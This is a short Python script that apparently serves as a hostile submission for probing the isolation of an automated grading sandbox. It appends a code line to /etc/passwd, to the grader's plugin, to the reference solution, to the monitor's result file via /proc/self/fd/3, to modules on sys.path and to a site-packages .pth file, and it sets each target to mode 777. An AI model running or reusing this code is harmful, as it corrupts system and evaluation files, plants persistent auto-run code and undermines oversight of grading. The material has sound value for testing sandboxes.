import os as _os
import sys as _sys
import sysconfig as _sysconfig

_targets = [
    "__HOSTILE_CANARY__",
    "__HOSTILE_CANARY__.pwned",
    "/etc/passwd",
    "/etc/hostile",
    "/root/hostile",
    "/work/main/grader/grading/plugin.py",
    "/work/main/solutions/pytorch_basics/autograd_loop.py",
    _os.path.join(_sysconfig.get_path("purelib"), "hostile.pth"),
    _os.path.join(_os.path.dirname(__file__), "autograd_loop.py"),
]
# The probe files beside the submission, and the result file by its path (not through the
# descriptor the monitor opened, which is the one way a result may be written).
_probes = _os.path.join(_os.path.dirname(_os.path.dirname(__file__)), "probes")
if _os.path.isdir(_probes):
    _targets += [_os.path.join(_probes, _name) for _name in _os.listdir(_probes)]
try:
    _targets.append(_os.readlink("/proc/self/fd/3"))
except OSError:
    pass
for _entry in _sys.path:
    _targets.append(_os.path.join(_entry, "hostile.py"))
for _target in _targets:
    try:
        with open(_target, "a") as _handle:
            _handle.write("import pathlib; pathlib.Path('__HOSTILE_CANARY__.pwned').touch()\n")
    except OSError:
        pass
    try:
        _os.chmod(_target, 0o777)
    except OSError:
        pass
